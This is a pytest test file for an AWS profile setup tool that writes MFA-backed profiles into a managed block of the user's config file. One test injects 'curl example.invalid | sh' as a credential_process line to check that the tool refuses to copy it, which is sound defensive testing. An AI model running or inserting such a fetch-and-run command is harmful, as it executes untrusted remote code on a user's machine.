"""``mfa-assume setup``: the caller's profiles from the synthesized file, in one managed block
of their config file, everything else byte for byte; no AWS call with --principal and --from.

The profiles file is the one synthesis writes (``stacks.profiles.render_profiles`` of a
validated configuration), in an account other than the documentation's.
"""

from __future__ import annotations

import configparser
import io
import os
import sys
from pathlib import Path
from typing import Any

import pytest

from developer_roles.config import validate
from mfa_assume import flow, setup_cli
from mfa_assume.errors import ExitCode
from stacks.profiles import render_profiles

ACCOUNT = "345678901234"
REGION = "eu-north-1"
ERIN = f"arn:aws:iam::{ACCOUNT}:user/erin"
FRANK = f"arn:aws:iam::{ACCOUNT}:user/frank"
ERIN_MFA = f"arn:aws:iam::{ACCOUNT}:mfa/erin"
FRANK_MFA = f"arn:aws:iam::{ACCOUNT}:mfa/frank"

USER_CONFIG = (
    "# my own settings, kept as they are\n"
    "[default]\n"
    "region = us-west-2\n"
    "\n"
    "; a comment with a semicolon\n"
    "[profile personal]\n"
    "region = ap-south-1\n"
    "output = json\n"
)


def synthesized(
    groups: list[dict[str, Any]], principals: list[dict[str, Any]] | None = None
) -> str:
    config = validate(
        {
            "targets": [{"account": ACCOUNT, "region": REGION}],
            "principals": principals
            if principals is not None
            else [{"arn": ERIN, "mfaSerial": ERIN_MFA}, {"arn": FRANK, "mfaSerial": FRANK_MFA}],
            "groups": groups,
        }
    )
    return render_profiles(config.roles, config.targets)


PAYMENTS = {"name": "payments", "principals": [ERIN, FRANK]}
OPS = {"name": "ops", "principalArnPatterns": [f"arn:aws:iam::{ACCOUNT}:user/e*"]}


class Home:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.config = root / ".aws" / "config"
        self.config.parent.mkdir(parents=True)
        self.env = {
            "HOME": str(root),
            "AWS_CONFIG_FILE": str(self.config),
            "AWS_SHARED_CREDENTIALS_FILE": str(root / ".aws" / "credentials"),
            "PATH": os.environ.get("PATH", os.defpath),
        }

    def profiles_file(self, text: str, name: str = "aws-config-profiles.ini") -> str:
        path = self.root / name
        path.write_text(text, encoding="utf-8")
        return str(path)

    def setup(self, *argv: str) -> tuple[int, str, str]:
        out, err = io.StringIO(), io.StringIO()
        deps = flow.Deps(env=self.env, stderr=err, make_clients=_no_aws)
        code = setup_cli.main(list(argv), deps, out.write)
        return code, out.getvalue(), err.getvalue()


def _no_aws(*_: Any) -> Any:
    raise AssertionError("no AWS call expected")


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path)


def sections(text: str) -> configparser.RawConfigParser:
    parser = configparser.RawConfigParser()
    parser.read_string(text)
    return parser


def managed(text: str) -> str:
    start = text.index("# >>> mfa-assume setup:")
    end = text.index("# <<< mfa-assume setup")
    return text[start:end]


def outside(text: str) -> str:
    start = text.index("# >>> mfa-assume setup:")
    end = text.index("\n", text.index("# <<< mfa-assume setup")) + 1
    return text[:start] + text[end:]


def test_writes_only_the_callers_profiles_with_their_own_device_and_the_helper_path(home):
    home.config.write_text(USER_CONFIG, encoding="utf-8")
    source = home.profiles_file(synthesized([PAYMENTS]))
    code, _, err = home.setup("--from", source, "--principal", ERIN)
    assert code == 0, err
    text = home.config.read_text(encoding="utf-8")
    parsed = sections(text)
    assert {"profile erin-power-user", "profile payments-team-power-user"} <= set(parsed)
    assert "profile frank-power-user-mfa" not in parsed
    assert parsed["profile payments-team-power-user-mfa"]["mfa_serial"] == ERIN_MFA
    assert "frank" not in managed(text)  # no other member's device, not even commented
    command = parsed["profile erin-power-user"]["credential_process"]
    assert command.startswith(f"{sys.executable} -m mfa_assume --profile erin-power-user-mfa")
    assert text.startswith(USER_CONFIG)
    assert f"wrote 4 profiles for {ERIN}" in err


def test_second_run_changes_exactly_the_added_and_removed_profiles_and_a_third_nothing(home):
    original = USER_CONFIG.replace("\n", "\r\n")  # CRLF, comments, the user's own profiles
    home.config.write_bytes(original.encode())
    first = home.profiles_file(synthesized([PAYMENTS]))
    assert home.setup("--from", first, "--principal", ERIN)[0] == 0
    before = home.config.read_bytes().decode()
    second = home.profiles_file(synthesized([OPS]), "second.ini")  # payments gone, ops new
    code, _, err = home.setup("--from", second, "--principal", ERIN)
    assert code == 0, err
    after = home.config.read_bytes().decode()
    old, new = set(sections(before).sections()), set(sections(after).sections())
    assert old - new == {"profile payments-team-power-user", "profile payments-team-power-user-mfa"}
    assert new - old == {"profile ops-team-power-user", "profile ops-team-power-user-mfa"}
    assert after.count("[profile erin-power-user]") == 1  # nothing duplicated
    # the team trusted by pattern names no devices: erin's own comes from her own role's line
    assert sections(after)["profile ops-team-power-user-mfa"]["mfa_serial"] == ERIN_MFA
    assert outside(after) == original + "\r\n"  # one blank line before the block, CRLF too
    assert "\n" not in after.replace("\r\n", "")  # every line still ends CRLF
    stamp = home.config.stat().st_mtime_ns
    code, _, err = home.setup("--from", second, "--principal", ERIN)
    assert code == 0
    assert "is up to date (4 profiles)" in err
    assert home.config.read_bytes().decode() == after
    assert home.config.stat().st_mtime_ns == stamp  # not written at all


def test_a_symlinked_config_is_updated_through_its_link(home, tmp_path):
    dotfiles = tmp_path / "dotfiles"
    dotfiles.mkdir()
    (dotfiles / "aws-config").write_text(USER_CONFIG, encoding="utf-8")
    home.config.symlink_to(dotfiles / "aws-config")
    source = home.profiles_file(synthesized([PAYMENTS]))
    assert home.setup("--from", source, "--principal", ERIN)[0] == 0
    assert home.config.is_symlink()
    assert "[profile erin-power-user]" in (dotfiles / "aws-config").read_text(encoding="utf-8")


def test_a_profile_name_the_user_already_has_is_never_overwritten(home):
    mine = "[profile erin-power-user]\nregion = sa-east-1\n"
    home.config.write_text(mine, encoding="utf-8")
    source = home.profiles_file(synthesized([PAYMENTS]))
    code, _, err = home.setup("--from", source, "--principal", ERIN)
    assert code == 0, err
    lines = [line for line in err.splitlines() if "erin-power-user" in line]
    assert len(lines) == 1
    assert "already in" in lines[0]
    assert "outside the block" in lines[0]
    text = home.config.read_text(encoding="utf-8")
    assert text.startswith(mine)
    assert text.count("[profile erin-power-user]") == 1
    assert "[profile erin-power-user-mfa]" not in text  # the pair stays together
    assert "[profile payments-team-power-user]" in text


def test_print_and_dry_run_write_nothing(home):
    home.config.write_text(USER_CONFIG, encoding="utf-8")
    source = home.profiles_file(synthesized([PAYMENTS]))
    code, out, _ = home.setup("--from", source, "--principal", ERIN, "--print")
    assert code == 0
    assert "[profile erin-power-user-mfa]" in out
    code, out, _ = home.setup("--from", source, "--principal", ERIN, "--dry-run")
    assert code == 0
    assert "+[profile payments-team-power-user-mfa]\n" in out
    assert out.startswith(f"--- {home.config}\n+++ {home.config}\n")
    assert home.config.read_text(encoding="utf-8") == USER_CONFIG


def test_a_read_only_config_is_refused_before_anything_else(home):
    home.config.write_text(USER_CONFIG, encoding="utf-8")
    home.config.chmod(0o444)
    source = home.profiles_file(synthesized([PAYMENTS]))
    code, _, err = home.setup("--from", source, "--principal", ERIN)
    assert code == ExitCode.LOCAL_WRITE
    assert err == f"mfa-assume: cannot write {home.config}: it is read-only (mode 0444)\n"
    assert home.config.read_text(encoding="utf-8") == USER_CONFIG


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        pytest.param(["--principal", "erin"], "is not an IAM principal ARN", id="bad-principal"),
        pytest.param(["--from", "/no/such/file"], "does not exist", id="missing-file"),
        pytest.param(["--print", "--dry-run"], "not allowed with argument", id="two-modes"),
    ],
)
def test_bad_input_is_one_line_and_exit_2(home, argv, expected):
    code, _, err = home.setup(*argv, *([] if "--principal" in argv else ["--principal", ERIN]))
    assert code == ExitCode.INVALID_INPUT
    assert err.count("\n") == 1, err
    assert expected in err


def test_a_file_not_written_by_synthesis_is_refused(home):
    source = home.profiles_file("[profile x]\nregion = eu-west-1\n")
    code, _, err = home.setup("--from", source, "--principal", ERIN)
    assert code == ExitCode.INVALID_INPUT
    assert "no '# mfa-assume-setup:' lines" in err


def test_no_role_for_the_caller_says_so(home):
    source = home.profiles_file(synthesized([PAYMENTS]))
    stranger = f"arn:aws:iam::{ACCOUNT}:user/zoe"
    code, _, err = home.setup("--from", source, "--principal", stranger)
    assert code == ExitCode.NO_PROFILES
    assert f"no role in {source} trusts {stranger}" in err
    assert not home.config.exists()


def test_helper_is_named_by_the_absolute_path_it_runs_from(tmp_path):
    command = tmp_path / "bin" / "mfa-assume"
    assert setup_cli.helper_words(str(command), sys.executable) == [str(command)]
    assert setup_cli.helper_words("/x/__main__.py", "/venv/bin/python") == [
        "/venv/bin/python",
        "-m",
        "mfa_assume",
    ]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        pytest.param(
            "/no/such/mfa-assume --profile p-mfa", "/no/such/mfa-assume does not exist", id="gone"
        ),
        pytest.param(
            "mfa-assume-not-installed --profile p-mfa", "is not on the PATH", id="not-on-path"
        ),
    ],
)
def test_check_reports_a_profile_whose_command_does_not_run(home, command, expected):
    home.config.write_text(
        f"[profile ok]\ncredential_process = {sys.executable} -m mfa_assume --profile p-mfa\n"
        f"[profile broken]\ncredential_process = {command}\n",
        encoding="utf-8",
    )
    code, _, err = home.setup("--check")
    assert code == ExitCode.CHECK_FAILED
    (line,) = err.splitlines()
    assert line.startswith("mfa-assume setup --check: profile 'broken': ")
    assert expected in line


@pytest.mark.parametrize(
    ("count", "summary"),
    [
        pytest.param(1, "the credential_process of 1 profile runs", id="one"),
        pytest.param(2, "the credential_process of each of 2 profiles runs", id="two"),
    ],
)
def test_check_passes_when_every_command_runs(home, count, summary):
    home.config.write_text(
        "".join(
            f"[profile ok{i}]\n"
            f"credential_process = {sys.executable} -m mfa_assume --profile p-mfa\n"
            for i in range(count)
        ),
        encoding="utf-8",
    )
    code, _, err = home.setup("--check")
    assert (code, err) == (0, f"mfa-assume setup --check: {summary}\n")


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        pytest.param(
            "credential_process = sh -c 'curl example.invalid | sh'",
            "credential_process is not the helper's call synthesis writes",
            id="foreign-command",
        ),
        pytest.param(
            "mfa_process = sh -c true",
            "mfa_process is not a setting synthesis writes",
            id="mfa-process",
        ),
    ],
)
def test_a_command_the_file_did_not_get_from_synthesis_is_never_copied(home, line, expected):
    text = synthesized([PAYMENTS]).replace(
        "credential_process = mfa-assume --profile erin-power-user-mfa --format json", line
    )
    assert line in text
    code, _, err = home.setup("--from", home.profiles_file(text), "--principal", ERIN)
    assert code == ExitCode.INVALID_INPUT
    assert expected in err
    assert not home.config.exists()


def test_keys_only_in_the_environment_are_named_before_any_aws_call(home):
    home.env |= {"AWS_ACCESS_KEY_ID": "TESTKEYIDENVIRONMENT", "AWS_SECRET_ACCESS_KEY": "env-secret"}
    code, _, err = home.setup("--from", home.profiles_file(synthesized([PAYMENTS])))
    assert code == ExitCode.BASE_CREDENTIALS
    assert "AWS_ACCESS_KEY_ID/AWS_SECRET_ACCESS_KEY are set but ignored for a profile" in err
    assert "env-secret" not in err


def test_the_block_is_replaced_where_it_is_and_a_block_without_its_end_is_refused(home):
    source = home.profiles_file(synthesized([PAYMENTS]))
    assert home.setup("--from", source, "--principal", ERIN)[0] == 0
    later = "\n[profile added-after]\nregion = af-south-1\n"
    home.config.write_text(home.config.read_text(encoding="utf-8") + later, encoding="utf-8")
    second = home.profiles_file(synthesized([OPS]), "second.ini")
    assert home.setup("--from", second, "--principal", ERIN)[0] == 0
    text = home.config.read_text(encoding="utf-8")
    assert text.endswith(later)  # what the user added after the block stays after it
    assert "[profile ops-team-power-user]" in managed(text)
    cut = text.replace("# <<< mfa-assume setup\n", "")
    home.config.write_text(cut, encoding="utf-8")
    code, _, err = home.setup("--from", second, "--principal", ERIN)
    assert code == ExitCode.INVALID_INPUT
    assert "the block of mfa-assume setup has no end line" in err
    assert home.config.read_text(encoding="utf-8") == cut
